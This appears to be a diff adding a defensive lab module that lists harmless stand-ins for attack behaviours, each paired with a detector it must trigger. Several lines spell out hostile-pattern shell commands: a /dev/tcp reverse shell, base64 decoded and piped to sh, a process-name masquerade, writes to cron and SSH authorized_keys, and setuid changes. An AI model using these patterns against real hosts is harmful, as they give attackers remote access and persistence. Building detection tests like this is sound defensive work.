@@ -1,5 +1,80 @@
-"""The behaviours of the demonstration, and which shipped instance has to detect each."""
+"""The behaviours of the demonstration, and which shipped instance has to detect each.
 
-from lab.demo.scenario import Behaviour
+Harmless all of them: files in the scratch folder, closed ports on loopback, programs that do
+nothing. What they have in common with an attack is what a sensor sees of it.
+"""
 
-BEHAVIOURS: tuple[Behaviour, ...] = ()
+from lab.demo.scenario import Behaviour, commands
+
+_UNIX_CONNECT = (
+    "import socket; socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect_ex('./docker.sock')"
+)
+
+BEHAVIOURS: tuple[Behaviour, ...] = (
+    Behaviour(
+        "text is decoded and piped into a shell",
+        "process",
+        "decoded-script-piped-to-shell",
+        commands("bash -c 'echo dHJ1ZQo= | base64 -d | sh'"),
+    ),
+    Behaviour(
+        "a shell is tied to a connection (to a closed port)",
+        "process",
+        "reverse-shell-command-line",
+        commands("bash -c 'sh -i >& /dev/tcp/127.0.0.1/4444 0>&1'"),
+    ),
+    Behaviour(
+        "a program calls itself a kernel thread",
+        "process",
+        "kernel-thread-masquerade",
+        commands("exec -a '[kworker/0:1]' /bin/true"),
+    ),
+    Behaviour(
+        "a program runs from a hidden folder",
+        "process",
+        "execution-from-hidden-folder",
+        commands("mkdir -p .hidden; cp /bin/true .hidden/tool; $PWD/.hidden/tool"),
+    ),
+    Behaviour(
+        "a cron entry is written",
+        "file",
+        "cron-entry-written",
+        commands("mkdir -p etc/cron.d; echo '# nothing' > etc/cron.d/job"),
+    ),
+    Behaviour(
+        "a program is given the set-user-id bit",
+        "file",
+        "set-user-id-bit-added",
+        commands("cp /bin/true tool; chmod 4755 tool; rm tool"),
+    ),
+    Behaviour(
+        "a key is added for logging in",
+        "file",
+        "ssh-authorized-keys-written",
+        commands("mkdir -p home/.ssh; echo '# no key' > home/.ssh/authorized_keys"),
+    ),
+    Behaviour(
+        "a shell opens a connection",
+        "network",
+        "shell-opens-connection",
+        commands("bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444'"),
+    ),
+    Behaviour(
+        "something connects where mining pools listen",
+        "network",
+        "connect-to-mining-pool-port",
+        commands("bash -c 'exec 3<>/dev/tcp/127.0.0.1/3333'"),
+    ),
+    Behaviour(
+        "a FIFO with the name that reverse shells give it",
+        "ipc",
+        "fifo-of-reverse-shell",
+        commands("rm -f backpipe; mkfifo backpipe"),
+    ),
+    Behaviour(
+        "a one-line program asks for the container engine",
+        "ipc",
+        "container-socket-by-general-tool",
+        commands(f'/usr/bin/python3 -c "{_UNIX_CONNECT}"'),
+    ),
+)
